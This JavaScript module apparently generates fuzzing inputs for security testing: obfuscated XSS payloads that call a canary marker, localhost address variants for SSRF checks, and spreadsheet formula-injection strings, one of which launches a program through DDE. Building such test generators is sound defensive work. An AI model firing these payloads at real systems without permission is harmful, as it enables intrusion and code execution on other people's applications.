// What a stranger would type to have it run, fetched or calculated: generated from small tables, so that no list is copied from anywhere.

/** What calls us if it runs; each payload has a number of its own. */
const CALLS = [(n) => `hit(${n})`, (n) => `window['hit'](${n})`, (n) => `self.hit?.(${n})`, (n) => `top.hit(${n})`];
/** What ends the place a text stands in. */
const OPENERS = ["", '">', "'>", "-->", "</title>", "</textarea>", "</script>", "</style>", "]]>", "</option></select>", '"/>', "</svg>"];
/** What runs by itself or when it is touched; `call` is what it does, `at` an address of ours that must never be asked. */
const VECTORS = [
  (call) => `<script>${call}</script>`,
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<body onload=${call}>`,
  (call) => `<details open ontoggle=${call}>x</details>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<video><source onerror=${call}></video>`,
  (call) => `<math><a xlink:href="javascript:${call}">x</a></math>`,
  (call) => `<a href="javascript:${call}">x</a>`,
  (call) => `<iframe srcdoc="&lt;script>parent.${call}&lt;/script>"></iframe>`,
  (call) => `<iframe src="javascript:parent.${call}"></iframe>`,
  (call) => `<template><img src=x onerror=${call}></template>`,
  (call) => `<form><button formaction="javascript:${call}">x</button></form>`,
  (call) => `<object data="data:text/html,<script>parent.${call}</script>"></object>`,
  (_, at) => `<img src="${at}">`,
  (_, at) => `<link rel=stylesheet href="${at}">`,
  (_, at) => `<script src="${at}"></script>`,
  (_, at) => `<base href="${at}/">`,
  (_, at) => `<meta http-equiv=refresh content="0;url=${at}">`,
  (_, at) => `<style>@import url(${at});</style>`,
  (_, at) => `<form action="${at}"><input name=a></form>`,
];
/** What stays within an attribute, a script, a template or an address. */
const WITHIN = [
  (call) => `" autofocus onfocus=${call} x="`,
  (call) => `' onmouseover=${call} x='`,
  (call) => `\` onclick=${call} x=\``,
  (call) => `x onpointerenter=${call} y=`,
  (call) => `";${call};//`,
  (call) => `';${call};//`,
  (call) => `\\";${call};//`,
  (call) => `\u2028${call}//`,
  (call) => `</script><script>${call}//`,
  (call) => `javascript:${call}`,
  (call) => `JaVaScRiPt:${call}`,
  (call) => `java\tscript:${call}`,
  (call) => `data:text/html,<script>${call}</script>`,
  (call) => `{{${call}}}`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `{% raw %}${call}`,
  (call) => `\${${call}}`,
  (call) => `#{${call}}`,
  (call) => `<%= ${call} %>`,
];
/** How it is dressed so that a careless reader lets it through. */
const DRESSES = [
  (text) => text,
  (text) => text.replace(/<(\/?)([a-z])/g, (_, slash, letter) => `<${slash}${letter.toUpperCase()}`),
  (text) => text.replace(/ on/g, "/on"),
  (text) => text.replace(/ /g, "\t"),
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (text) => text.replaceAll("<", "%3C").replaceAll(">", "%3E"),
  (text) => text.replaceAll("<", "\\u003c"),
  (text) => text.replaceAll("<", "\uFF1C").replaceAll(">", "\uFF1E"),
  (text) => text.replaceAll("<", "<\u200b"),
  (text) => `<<${text}>>`,
  (text) => `\u202e${text}`,
  (text) => `पेड़ा ${text}`,
];

/** So many payloads, each another one; `canary` is an address nobody may ask. */
export function payloads(count, canary) {
  const made = new Set();
  for (let n = 0; made.size < count; n += 1) {
    const call = CALLS[n % CALLS.length](n);
    const at = `${canary}/x${n}`;
    // One in four stays within the place; the steps have no factor in common with the tables, so that all pairs come in turn.
    const text =
      n % 4 === 3
        ? WITHIN[(n >> 2) % WITHIN.length](call, at)
        : OPENERS[(n * 5) % OPENERS.length] + VECTORS[(n * 7) % VECTORS.length](call, at);
    made.add(DRESSES[(n * 11 + (n >> 4)) % DRESSES.length](text));
  }
  return [...made];
}

/** Sixty ways to write an address that somebody careless would fetch. */
export function addresses(port) {
  const hosts = ["127.0.0.1", "localhost", "[::1]", "2130706433", "0x7f000001", "0177.0.0.1", "127.1", "0.0.0.0", "[::ffff:127.0.0.1]", "127.0.0.1.nip.io"];
  const ways = [
    (host) => `http://${host}:${port}/`,
    (host) => `//${host}:${port}/a.png`,
    (host) => `http://deogharmart.in@${host}:${port}/`,
    (host) => `https://${host}:${port}/webhook`,
    (host) => `http:\\\\${host}:${port}\\`,
    (host) => `gopher://${host}:${port}/_GET%20/`,
  ];
  return hosts.flatMap((host) => ways.map((way) => way(host)));
}

/** What a sheet would calculate if it stood in a cell as it is. */
export const FORMULAS = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1;1)",
  "=HYPERLINK(\"http://127.0.0.1/\";\"x\")",
  "=cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  " =1+1",
  "＝1+1",
  "\"=1+1",
  ";=1+1",
  ",=1+1",
];
